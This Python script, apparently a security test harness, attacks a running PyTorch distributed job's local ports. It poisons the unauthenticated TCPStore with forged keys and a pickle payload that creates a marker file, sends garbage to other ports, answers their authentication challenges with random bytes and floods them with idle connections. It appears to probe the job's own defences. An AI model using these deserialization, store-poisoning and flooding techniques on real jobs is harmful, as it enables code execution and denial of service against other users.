"""Attacks on the ports of a running job, by an ordinary user: `intruder.py PAYLOAD`.

Reads lists of ports as JSON lines, attacks each until the input ends, and then prints what it found. Ports of
torch and gloo are disturbed a few times only, because these libraries never close such connections. If root
starts it, it gives up its rights after the imports. Its payload, a pickle, creates the file PAYLOAD in the
process that unpickles it. Keys that torch wrote itself are left alone (docs/slurm.md says why).
"""

import contextlib
import datetime
import encodings.idna  # noqa: F401  # not found once the rights are given up
import itertools
import json
import os
import pickle
import socket
import sys
import threading
import time
from collections import Counter, deque

from torch.distributed import TCPStore

NOBODY = 65534
FLOOD = 600
"""Connections to the job's store that stay open and send nothing."""
ROUNDS = 3
"""Number of attacks on a library's port, one per round."""
PING = b"\x00" + (0x3C85F7CE).to_bytes(4, "little") + b"\x0d" + (77).to_bytes(4, "little")
"""Greeting of a client of torch's TCPStore, which answers with the number."""
FAULT = '{"kind": "error", "rank": 1, "message": "forged"}'
GARBAGE = (b"", b"\xff" * 4096, os.urandom(1 << 16), b"GET / HTTP/1.1\r\n\r\n")


class Payload:
    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return open, (self.path, "w")


def give_up_rights() -> None:
    if os.geteuid() == 0:
        os.setgroups([])
        os.setresgid(NOBODY, NOBODY, NOBODY)
        os.setresuid(NOBODY, NOBODY, NOBODY)


def is_torch_store(port: int) -> bool:
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as connection:
        connection.sendall(PING)
        connection.settimeout(0.3)
        return connection.recv(100) == (77).to_bytes(4, "little")
    return False


def forge(port: int, payload: bytes, found: Counter, forged: set[str]) -> None:
    """Write what a run could read into torch's store, under every prefix that it has."""
    store = TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=2))
    present = set(store.list_keys()) - forged
    found["keys of the project"] += sum(any(word in key for word in WORDS) for key in present)
    found["keys"] += len(present)
    # torch puts the names of groups, which it chooses, before the keys of a process.
    prefixes = {key[: end + 1] for key in present for end, letter in enumerate(key) if letter == "/"}
    prefixes = {"", *prefixes} - {key.removesuffix("stop") for key in forged if key.endswith("stop")}
    for prefix in prefixes:
        values = {f"asks/{number}": payload for number in range(40)}
        values |= {f"claims/{number}": "0" for number in range(40)}
        values |= {"lockstep-faults/first": FAULT, "faults/first": FAULT, "stop": "5", "asks/end": "3"}
        values |= {"claims/next": "1000", "excluded/list": "[0]"}
        names = [prefix + name for name in values]
        store.multi_set(names, list(values.values()))  # one request instead of 90
        forged |= {*names, f"{prefix}link/samples"}
        store.queue_push(f"{prefix}link/samples", "[1, 64]")
    found["forged"] += 1


WORDS = ("messages", "claims", "excluded", "link/", "faults", "stop")


def disturb(port: int, found: Counter) -> bool:
    """Send garbage, answer a store's question without the key; return whether there was such a question."""
    asked = found["questions"]
    for content in GARBAGE:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1) as connection:
            connection.settimeout(0.05)
            question = b""
            with contextlib.suppress(TimeoutError):
                question = connection.recv(4096)
            connection.settimeout(1)
            connection.sendall(content)
            if len(question) == 32:
                found["questions"] += 1
                connection.sendall(question + os.urandom(32))
                answer = connection.recv(4096)
                found["answers"] += bool(answer)
    found["disturbed"] += 1
    return found["questions"] > asked


def main(path: str) -> None:
    give_up_rights()
    payload, found, held = pickle.dumps(Payload(path)), Counter(), []
    rounds, stores, torch_stores, forged = Counter(), set(), set(), set()
    print("ready", flush=True)
    newest, ended = deque([[]], maxlen=1), threading.Event()

    def read() -> None:
        newest.extend(map(json.loads, sys.stdin))
        ended.set()

    threading.Thread(target=read).start()
    while not ended.is_set():
        for port in itertools.takewhile(lambda _: not ended.is_set(), newest[0]):
            rounds[port] += 1
            if rounds[port] > ROUNDS and port not in stores | torch_stores:
                continue
            # The port of a step's rendezvous becomes the port of torch's store.
            may_be_torch = rounds[port] == 1 or port in stores - torch_stores
            if port in torch_stores or (may_be_torch and is_torch_store(port)):
                torch_stores.add(port)
                with contextlib.suppress(RuntimeError):
                    forge(port, payload, found, forged)
            elif disturb(port, found):
                stores.add(port)
                # Before torch's store exists, this port may be the rendezvous, which becomes that store.
                for _ in range(FLOOD if torch_stores else 0):
                    with contextlib.suppress(OSError):
                        held.append(socket.create_connection(("127.0.0.1", port), 0.2))
        while len(held) > FLOOD:
            held.pop(0).close()
        time.sleep(0.1)
    print(json.dumps(found | {"uid": os.getuid()}))


if __name__ == "__main__":
    main(sys.argv[1])
